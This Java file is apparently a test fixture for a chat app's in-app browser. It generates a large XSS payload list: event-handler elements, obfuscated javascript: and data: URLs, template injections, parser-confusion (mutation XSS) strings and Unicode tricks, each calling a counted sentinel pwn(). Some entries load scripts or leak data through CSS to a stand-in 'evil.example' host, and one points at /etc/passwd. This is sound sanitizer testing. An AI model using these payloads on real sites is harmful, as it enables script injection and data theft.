package chat.maru.browser;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/**
 * What somebody may write who wants a script of theirs to run in the page of another: each tries to call {@code pwn()},
 * which {@link Alarm} counts. Made by crossing a few lists, so that each trick comes in several disguises.
 */
final class Payloads {
    /** Elements with what makes a browser run a script by itself, or after the least of gestures. */
    private static final List<String> ELEMENTS = List.of(
            "img src=x onerror=pwn()",
            "svg onload=pwn()",
            "video src=x onerror=pwn()",
            "audio src=x onerror=pwn()",
            "video><source src=x onerror=pwn()",
            "body onload=pwn()",
            "body onpageshow=pwn()",
            "input autofocus onfocus=pwn()",
            "select autofocus onfocus=pwn()",
            "textarea autofocus onfocus=pwn()",
            "button onclick=pwn() autofocus",
            "details open ontoggle=pwn()",
            "marquee onstart=pwn()",
            "div onpointerover=pwn()",
            "div onanimationstart=pwn() class=flash",
            "li tabindex=0 onfocus=pwn()",
            "iframe src=javascript:pwn()",
            "iframe srcdoc='&lt;script>parent.pwn()&lt;/script>'",
            "object data=javascript:pwn()",
            "embed src=javascript:pwn()",
            "form action=javascript:pwn()><input type=submit",
            "svg><animate onbegin=pwn() attributeName=x dur=1s",
            "svg><script>pwn()</script",
            "math><mtext><img src=x onerror=pwn()",
            "a href=javascript:pwn()",
            "base href=//evil.example/",
            "meta http-equiv=refresh content=0;url=//evil.example/",
            "link rel=stylesheet href=//evil.example/a.css",
            "script src=//evil.example/a.js",
            "template shadowrootmode=open><img src=x onerror=pwn()",
            "maru-room room=evil",
            "slot name=start onslotchange=pwn()",
            "dialog open oncancel=pwn()",
            "p popover id=popups onbeforetoggle=pwn()");

    /** Addresses that are none. */
    private static final List<String> ADDRESSES = List.of(
            "javascript:pwn()",
            "JaVaScRiPt:pwn()",
            "java\tscript:pwn()",
            "java\nscript:pwn()",
            "&#106;avascript:pwn()",
            "&#x6A;avascript&colon;pwn()",
            "javascript&#0000058pwn()",
            "javascript://https://example.com/%0apwn()",
            "%6aavascript:pwn()",
            "javascript\u200b:pwn()",
            "data:text/html,<script>opener.pwn()</script>",
            "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
            "DATA:image/svg+xml,<svg onload=pwn() xmlns='http://www.w3.org/2000/svg'/>",
            "vbscript:pwn()",
            "view-source:javascript:pwn()",
            "blob:https://example.com/pwn()",
            "file:///etc/passwd",
            "https:javascript:pwn()",
            "http://user:pw@example.com/\"onclick=pwn()",
            "https://example.com/\" onmouseover=\"pwn()");

    /** Templates of all sorts, and the marks by which lit-html finds its own places. */
    private static final List<String> TEMPLATES = List.of(
            "${pwn()}",
            "`${pwn()}`",
            "{{pwn()}}",
            "{{constructor.constructor('pwn()')()}}",
            "#{pwn()}",
            "@{pwn()}",
            "<%= pwn() %>",
            "<?php pwn() ?>",
            "[[${pwn()}]]",
            "{% raw %}pwn(){% endraw %}",
            "{name|<img src=x onerror=pwn()>/x}",
            "{count}",
            "<!--?lit$000000000$--><img src=x onerror=pwn()>",
            "lit$000000000$",
            "<?lit$000000000$>",
            "{\"_$litType$\":1,\"strings\":[\"<img src=x onerror=pwn()>\"],\"values\":[]}",
            "__proto__",
            "constructor");

    /** Ends of whatever the text may stand in. */
    private static final List<String> BREAKERS = List.of(
            "\"",
            "'",
            "`",
            "-->",
            "--!>",
            "]]>",
            "*/",
            "\\",
            "</p>",
            "</textarea>",
            "</title>",
            "</style>",
            "</script>",
            "</template>",
            "</svg>",
            "</maru-room>",
            "<!--",
            "<![CDATA[",
            "<plaintext>",
            "<noscript>",
            "<xmp>");

    /** Our own marks, with a place for something between them. */
    private static final List<String> MARKS = List.of(
            "*%s*",
            "_%s_",
            "~%s~",
            "*_~%s~_*",
            "`%s`",
            "```\n%s\n```",
            "```%s",
            "> %s",
            "> *%s",
            "@%s",
            "@지수%s",
            "(%s)",
            "https://example.com/%s",
            "https://example.com/?q=%s#%s",
            "https://%s/",
            "https://example.com:%s",
            "*https://example.com/%s*");

    /** What is parsed once as one thing and the next time as another, and styles. */
    private static final List<String> SHAPES = List.of(
            "<svg></p><style><a title=\"</style><img src=x onerror=pwn()>\">",
            "<math><annotation-xml encoding=text/html><style><img title='</style><img src=x onerror=pwn()>'>",
            "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>",
            "<table><td><svg><desc><td><img src=x onerror=pwn()>",
            "<select><option><style></option></select><img src=x onerror=pwn()></style>",
            "<svg><foreignObject><iframe srcdoc=\"<img src=x onerror=parent.pwn()>\">",
            "<div style=\"background:url(javascript:pwn())\">",
            "<div style='width:expression(pwn())'>",
            "<style>@import '//evil.example/a.css';</style>",
            "<style>*{background:url(//evil.example/?a)}</style>",
            "}*{background:url(//evil.example/?b)}",
            "&lt;img src=x onerror=pwn()&gt;",
            "\\u003cimg src=x onerror=pwn()\\u003e",
            "%3Cimg%20src=x%20onerror=pwn()%3E",
            "\uff1cimg src=x onerror=pwn()\uff1e",
            "\u202e<img src=x onerror=pwn()>\u202c",
            "\u2066javascript:pwn()\u2069",
            "\ufeff<script>pwn()</script>",
            "<\u0131mg src=x onerror=pwn()>",
            "<scr\u00adipt>pwn()</scr\u00adipt>",
            "<\u115f\u1160script>pwn()</script>",
            "https://example.com/\u202egnp.exe\u202c",
            "<img src=x onerror=pwn()//" + "a".repeat(2_000) + ">",
            "<b>".repeat(600) + "<img src=x onerror=pwn()>",
            "*_~".repeat(500) + "<img src=x onerror=pwn()>",
            "> ".repeat(300) + "<svg onload=pwn()>",
            "';pwn();//\";pwn();//</script><script>pwn()</script>");

    private Payloads() {}

    /** All of them, each once, in one order. */
    static List<String> all() {
        Set<String> all = new LinkedHashSet<>();
        for (String element : ELEMENTS) {
            all.add("<" + element + ">");
            all.add("<" + capricious(element) + ">");
            all.add("<" + element.replaceFirst(" ", "/\n\t") + " ");
        }
        for (String address : ADDRESSES) {
            all.add(address);
            all.add("[look](" + address + ")");
            all.add("<a href=\"" + address + "\">look</a>");
        }
        all.addAll(TEMPLATES);
        BREAKERS.forEach(breaker -> all.add(breaker + "><img src=x onerror=pwn()>"));
        MARKS.forEach(mark -> all.add(mark.replace("%s", "<svg onload=pwn()>")));
        MARKS.forEach(mark -> all.add(mark.replace("%s", "\"onclick=pwn() x=\"")));
        all.addAll(SHAPES);
        return new ArrayList<>(all);
    }

    /** The names of elements and attributes in letters of both sizes: what they call stays as it is. */
    private static String capricious(String element) {
        StringBuilder mixed = new StringBuilder();
        for (String part : element.split("(?=[ =>])")) {
            boolean isValue = part.startsWith("=");
            for (int i = 0; i < part.length(); i++) {
                String letter = part.substring(i, i + 1);
                mixed.append(isValue || i % 2 == 0 ? letter : letter.toUpperCase(Locale.ROOT));
            }
        }
        return mixed.toString();
    }
}
